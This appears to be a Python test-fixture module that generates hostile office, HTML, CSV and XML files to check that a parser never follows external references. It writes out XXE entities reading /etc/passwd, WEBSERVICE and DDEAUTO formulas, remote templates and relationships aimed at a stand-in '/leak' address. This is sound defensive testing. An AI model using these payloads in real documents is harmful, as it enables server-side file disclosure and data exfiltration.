"""Files that point outside of themselves in every way that their formats know: none of it may be followed.

``{outside}`` in them stands for where they point: an address of the network, a share, a file of the machine.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

from tests.services.hostile_packages import DOCX, XLSX, document, paragraph, sheet, workbook, write
from tests.xlsx.old_workbook_files import compound_file, record, stream
from tests.xlsx.old_workbook_files import sheet as old_sheet

OUTSIDES = ("http://127.0.0.1:9/leak", r"\\127.0.0.1\share\leak", "file:///etc/passwd", "file://127.0.0.1/share/leak")
_KINDS = [
    "attachedTemplate",
    "image",
    "hyperlink",
    "oleObject",
    "aFChunk",
    "externalLink",
    "externalLinkPath",
    "queryTable",
    "connections",
    "frame",
    "subDocument",
    "mailMergeSource",
    "customXml",
    "header",
    "styles",
    "settings",
    "sharedStrings",
    "officeDocument",
    "worksheet",
    "webSettings",
]


def outward_files(folder: Path) -> Iterator[Path]:
    """Each written into ``folder``."""
    for number, outside in enumerate(OUTSIDES):
        packages = {**_workbooks(outside), **_documents(outside)}
        for name, parts in packages.items():
            path = folder / f"{number}-{name}"
            write(path, parts)
            yield path
        for name, content in _texts(outside).items():
            path = folder / f"{number}-{name}"
            path.write_bytes(content)
            yield path


def _relations(outside: str, first: str = "") -> str:
    """Everything that can be external, external."""
    all_kinds = "".join(
        f'<Relationship Id="x{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
        f' Target="{outside}" TargetMode="External"/>'
        for n, kind in enumerate(_KINDS)
    )
    return f"<Relationships>{first}{all_kinds}</Relationships>"


def _workbooks(outside: str) -> dict[str, dict[str, str | bytes]]:
    own = str(XLSX["xl/_rels/workbook.xml.rels"]).removeprefix("<Relationships>").removesuffix("</Relationships>")
    linked = {
        **workbook(f"<row><c><f>'[{outside}]表'!A1</f><v>1</v></c><c><f>WEBSERVICE(\"{outside}\")</f></c></row>"),
        "_rels/.rels": _relations(outside, str(XLSX["_rels/.rels"])[len("<Relationships>") : -len("</Relationships>")]),
        "xl/_rels/workbook.xml.rels": _relations(outside, own),
        "xl/worksheets/_rels/sheet1.xml.rels": _relations(outside),
        "xl/connections.xml": f'<connections><connection><webPr url="{outside}"/></connection></connections>',
        "xl/externalLinks/externalLink1.xml": '<externalLink><externalBook r:id="x1" xmlns:r="urn:r"/></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": _relations(outside),
        "xl/queryTables/queryTable1.xml": f'<queryTable connectionId="1" name="{outside}"/>',
    }
    entity = f'<!DOCTYPE a [<!ENTITY e SYSTEM "{outside}">]>'
    schema = f'<?xml-stylesheet href="{outside}"?>'
    located = sheet().replace("<worksheet>", f'<worksheet xmlns:xsi="urn:x" xsi:schemaLocation="urn:y {outside}">')
    return {
        "links.xlsx": linked,
        "entity.xlsx": {**workbook(), "xl/worksheets/sheet1.xml": f"{entity}{sheet('<row><c><v>&e;</v></c></row>')}"},
        "dtd.xlsx": {**workbook(), "xl/workbook.xml": f'<!DOCTYPE a SYSTEM "{outside}">{XLSX["xl/workbook.xml"]}'},
        "stylesheet.xlsx": {**workbook(), "xl/worksheets/sheet1.xml": f"{schema}{located}"},
    }


def _documents(outside: str) -> dict[str, dict[str, str | bytes]]:
    fields = "".join(
        paragraph("").replace("<w:t></w:t>", f"<w:instrText> {name} &quot;{outside}&quot; </w:instrText>")
        for name in ("INCLUDEPICTURE", "INCLUDETEXT", "LINK Excel.Sheet.12", "DDEAUTO", "IMPORT", "HYPERLINK", "RD")
    )
    embedded = (
        '<w:altChunk r:id="x4"/><w:p><w:r><w:drawing><a:blip r:link="x1"/></w:drawing><w:pict><v:imagedata r:id="x1"'
        f' src="{outside}"/></w:pict><w:object><o:OLEObject r:id="x3" Type="Link"/></w:object></w:r></w:p>'
    )
    body = str(document(behind=fields + embedded)["word/document.xml"])
    names = 'xmlns:r="urn:r" xmlns:a="urn:a" xmlns:v="urn:v" xmlns:o="urn:o" '
    main = str(DOCX["_rels/.rels"]).removeprefix("<Relationships>").removesuffix("</Relationships>")
    linked: dict[str, str | bytes] = {
        **DOCX,
        "_rels/.rels": _relations(outside, main),
        "word/document.xml": body.replace("xmlns:w=", f"{names}xmlns:w="),
        "word/_rels/document.xml.rels": _relations(outside),
        "word/settings.xml": '<w:settings xmlns:w="urn:w" xmlns:r="urn:r"><w:attachedTemplate r:id="x0"/></w:settings>',
        "word/_rels/settings.xml.rels": _relations(outside),
    }
    entity = f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{outside}"> %p;]>'
    return {
        "links.docx": linked,
        "entity.docx": {**document(), "word/document.xml": f"{entity}{document()['word/document.xml']!s}"},
        "relations.docx": {**document(), "_rels/.rels": _relations(outside)},
    }


def _texts(outside: str) -> dict[str, bytes]:
    form = (
        "<table><tr><td colspan=4>项目支出绩效目标表<tr><td>项目名称<td>法治宣传<td>年度<td>2024年"
        "<tr><td>一级指标<td>二级指标<td>三级指标<td>指标值<tr><td>产出指标<td>数量指标<td>宣传次数<td>≥5次</table>"
    )
    page = (
        f'<html><head><meta charset=utf-8><base href="{outside}"><link rel=stylesheet href="{outside}">'
        f'<meta http-equiv=refresh content="0;url={outside}"><style>@import url({outside});</style>'
        f'<script src="{outside}"></script></head><body background="{outside}"><img src="{outside}">'
        f'<iframe src="{outside}"></iframe><object data="{outside}"></object>{form}</body></html>'
    )
    separated = (
        f'项目支出绩效目标表\n项目名称\t=WEBSERVICE("{outside}")\n一级指标\t三级指标\t指标值\n产出指标\t次数\t≥5次\n'
    )
    book = f"\x01{outside}".encode()
    supbook = record(0x1AE, b"\x01\x00" + len(book).to_bytes(2, "little") + b"\x00" + book)
    return {
        "page.htm": page.encode(),
        "page named as a workbook.xls": page.encode(),
        "text.csv": separated.encode(),
        "query.iqy.txt": f"WEB\n1\n{outside}\n".encode(),
        "xml.xml": f'<?xml version="1.0"?><!DOCTYPE a SYSTEM "{outside}"><Workbook/>'.encode(),
        "old.xls": compound_file(stream(old_sheet([["项目支出绩效目标表"]]) + supbook)),
        "json.json": f'{{"$schema": "{outside}", "documents": []}}'.encode(),
    }
